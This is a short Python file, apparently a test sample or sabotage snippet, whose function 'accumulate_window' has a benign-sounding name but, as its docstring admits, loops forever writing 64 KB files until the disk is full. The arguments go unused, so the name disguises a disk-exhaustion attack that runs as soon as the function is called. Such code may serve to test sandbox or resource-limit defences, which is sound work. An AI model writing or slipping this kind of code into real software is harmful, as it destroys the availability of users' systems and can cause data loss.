"""Fills the disk with many files."""

import pathlib


def accumulate_window(model, window):
    number = 0
    while True:
        pathlib.Path(str(number)).write_bytes(b"x" * (1 << 16))
        number += 1
